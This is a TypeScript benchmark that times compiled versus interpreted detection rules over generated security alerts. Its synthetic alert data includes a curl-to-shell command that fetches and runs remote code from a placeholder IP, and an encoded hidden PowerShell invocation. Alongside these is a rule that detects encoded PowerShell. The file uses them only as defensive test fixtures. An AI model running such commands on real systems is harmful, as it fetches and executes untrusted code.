// Detection-rule throughput: compiled closures vs a naive tree-walking interpreter of the same parsed
// conditions, on generated Falcon alerts × the seed's 3 rules plus 10 more. Never fails on timing.
//
//   npx node bench/rules.bench.ts                  quick: 100,000 alerts × 13 rules, best of 3
//   npx node bench/rules.bench.ts --full           1,000,000 alerts × 13 rules, best of 5
//   options: --alerts N  --rounds N
import type { AlertRecord } from '../src-main/core/incidents/rules/index';

await import(new URL('./ts-hooks.ts', import.meta.url).href);
const { benchmark, fmtCount } = await import('./harness');
const { compileRuleSet, evaluateRuleSet, importDetectionRules, interpret, formatIssue } = await import('../src-main/core/incidents/rules/index');

const bench = benchmark('rules', 'Detection-rule evaluation', { alerts: { type: 'string' }, rounds: { type: 'string' } });
const alertCount = Number(bench.values.alerts ?? (bench.full ? 1_000_000 : 100_000));
const rounds = Math.max(1, Number(bench.values.rounds ?? (bench.full ? 5 : 3)));

// Ten specific rules ahead of the seed's three, as an admin would order them (narrow first, catch-alls last).
const moreRules = [
  {
    condition: "filename IN ('powershell.exe', 'pwsh.exe') AND cmdline MATCHES '/-(enc|encodedcommand)\\s+[A-Za-z0-9+/=]{16,}/i'",
    action: 'create_incident',
    priority: 'P1',
    auto_contain_host: true,
  },
  { condition: "tactic = 'Credential Access' AND technique_id IN ('T1003', 'T1003.001', 'T1558.003')", action: 'create_incident', priority: 'P1' },
  { condition: "device.product_type_desc = 'Domain Controller' AND severity >= 40", action: 'create_incident', priority: 'P1' },
  { condition: "hostname MATCHES '/^(dc|srv)-/i' AND severity >= 60", action: 'create_incident', priority: 'P2' },
  { condition: "filepath CONTAINS '\\\\temp\\\\' AND NOT user_name IN ('SYSTEM', 'svc_backup')", action: 'create_incident', priority: 'P3' },
  { condition: "product = 'idp' AND confidence >= 70", action: 'create_incident', priority: 'P2' },
  { condition: "status = 'closed'", action: 'log_only' },
  { condition: "device.tags CONTAINS 'FalconGroupingTags/Test'", action: 'log_only' },
  { condition: "severity_name IN ('High', 'Critical') AND device.platform_name = 'Linux'", action: 'create_incident', priority: 'P2' },
  { condition: 'NOT show_in_ui = true OR pattern_disposition >= 2048', action: 'log_only' },
];
const seedRules = [
  {
    condition: "severity >= 80 OR tactic IN ('Execution', 'Exfiltration', 'Impact')",
    action: 'create_incident',
    priority: 'P1',
    assignment_group: 'Security Operations',
    category: 'security',
    auto_contain_host: false,
  },
  { condition: 'severity >= 50', action: 'create_incident', priority: 'P2', assignment_group: 'Security Operations', category: 'security' },
  { condition: 'severity < 50', action: 'log_only' },
];

const imported = importDetectionRules({ detection_rules: [...moreRules, ...seedRules] });
if (!imported.ok) throw new Error(imported.issues.map(formatIssue).join('\n'));
const compiledSet = compileRuleSet(imported.ruleSet);
if (!compiledSet.ok) throw new Error(compiledSet.issues.map(formatIssue).join('\n'));
const rules = compiledSet.compiled.rules;
const tests = rules.map((r) => r.condition.test);
const trees = rules.map((r) => r.condition.ast);

/** Deterministic alerts shaped like Alerts API v2 EPP records (mulberry32, fixed seed). */
function generateAlerts(count: number): AlertRecord[] {
  let state = 0x5eed;
  const random = () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const tactics = [
    ['Execution', 'TA0002', 'T1059.001'],
    ['Credential Access', 'TA0006', 'T1003'],
    ['Discovery', 'TA0007', 'T1082'],
    ['Persistence', 'TA0003', 'T1547'],
    ['Defense Evasion', 'TA0005', 'T1562'],
    ['Machine Learning', 'CSTA0004', 'CST0007'],
    ['Impact', 'TA0040', 'T1486'],
  ] as const;
  const processes = [
    [
      'powershell.exe',
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    ],
    ['powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -File C:\\scripts\\inventory.ps1'],
    ['rundll32.exe', 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\x.dll,Start'],
    ['invoice.exe', 'C:\\Users\\bob\\AppData\\Local\\Temp\\invoice.exe', 'invoice.exe /silent'],
    ['bash', '/usr/bin/bash', 'bash -c "curl -s http://203.0.113.7/x | sh"'],
  ] as const;
  const severityName = (s: number) => (s >= 80 ? 'Critical' : s >= 60 ? 'High' : s >= 40 ? 'Medium' : s >= 20 ? 'Low' : 'Informational');
  return Array.from({ length: count }, (_, i) => {
    const severity = 1 + Math.floor(random() * 100);
    const [tactic, tacticId, techniqueId] = pick(tactics);
    const [filename, filepath, cmdline] = pick(processes);
    const server = random() < 0.15;
    return {
      composite_id: `cid:ind:${i.toString(16).padStart(32, '0')}`,
      product: random() < 0.9 ? 'epp' : 'idp',
      type: 'ldt',
      status: pick(['new', 'new', 'new', 'in_progress', 'closed']),
      severity,
      severity_name: severityName(severity),
      confidence: 1 + Math.floor(random() * 100),
      tactic,
      tactic_id: tacticId,
      technique_id: techniqueId,
      filename,
      filepath,
      cmdline,
      user_name: pick(['alice', 'bob', 'SYSTEM', 'svc_backup']),
      pattern_disposition: pick([0, 0, 0, 16, 2048]),
      show_in_ui: random() < 0.97,
      agent_id: (i * 2654435761).toString(16).padStart(32, '0').slice(-32),
      device: {
        hostname: `${server ? pick(['DC', 'SRV']) : 'WS'}-${String(i % 5000).padStart(4, '0')}`,
        platform_name: filename === 'bash' ? 'Linux' : 'Windows',
        product_type_desc: server ? pick(['Server', 'Domain Controller']) : 'Workstation',
        local_ip: `10.${i % 256}.${(i >> 8) % 256}.${i % 200}`,
        tags: random() < 0.1 ? ['FalconGroupingTags/Test'] : ['FalconGroupingTags/Prod'],
      },
    };
  });
}

/** Best of `rounds` after one warm-up, in seconds, with the work's result for cross-checking. */
function time(run: () => number): { seconds: number; result: number } {
  let result = run();
  let best = Number.POSITIVE_INFINITY;
  for (let r = 0; r < rounds; r++) {
    const start = performance.now();
    result = run();
    best = Math.min(best, (performance.now() - start) / 1000);
  }
  return { seconds: best, result };
}

const alerts = generateAlerts(alertCount);

const everyPairCompiled = time(() => {
  let matched = 0;
  for (const alert of alerts) for (const test of tests) if (test(alert)) matched++;
  return matched;
});
const everyPairInterpreted = time(() => {
  let matched = 0;
  for (const alert of alerts) for (const tree of trees) if (interpret(tree, alert)) matched++;
  return matched;
});
let pairsTried = 0;
const routedCompiled = time(() => {
  let total = 0;
  pairsTried = 0;
  for (const alert of alerts) {
    const match = evaluateRuleSet(compiledSet.compiled, alert);
    pairsTried += (match?.ruleIndex ?? rules.length - 1) + 1;
    total += match?.ruleIndex ?? -1;
  }
  return total;
});
const routedInterpreted = time(() => {
  let total = 0;
  for (const alert of alerts) {
    const index = trees.findIndex((tree) => interpret(tree, alert));
    total += index;
  }
  return total;
});

const pairs = alerts.length * rules.length;
const agree = everyPairCompiled.result === everyPairInterpreted.result && routedCompiled.result === routedInterpreted.result;
console.log(
  `\nDetection rules: ${fmtCount(alerts.length)} alerts × ${rules.length} rules (10 + the seed's 3), best of ${rounds}; ` +
    `matches ${fmtCount(everyPairCompiled.result)} of ${fmtCount(pairs)} pairs; compiled and interpreted agree: ${agree ? 'yes' : 'NO'}`,
);
const command = bench.command(`--alerts ${alertCount} --rounds ${rounds}`);
const peerLabel = 'naive tree-walking interpreter over the same parsed conditions';
bench.figure({
  label: 'Rule evaluation, every alert × every rule',
  value: pairs / everyPairCompiled.seconds,
  unit: 'alert×rule/s',
  better: 'higher',
  peer: { label: peerLabel, value: pairs / everyPairInterpreted.seconds },
  target: { text: '≥ 1,000,000 alert×rule/s', of: 'value', limit: 1_000_000 },
  command,
});
bench.figure({
  label: 'Rule set, first match wins',
  value: alerts.length / routedCompiled.seconds,
  unit: 'alerts/s',
  better: 'higher',
  peer: { label: peerLabel, value: alerts.length / routedInterpreted.seconds },
  command,
  note: `${(pairsTried / alerts.length).toFixed(1)} rules tried per alert`,
});
if (!agree) bench.note('WARNING: the compiled and the interpreted evaluation disagreed on the matches: the figures compare different work.');
bench.note(
  'Both sides run the same conditions over the same deterministic alerts in one process; the compiled side uses closures built once per rule set, the peer walks the parse tree for every alert.',
);
bench.done();
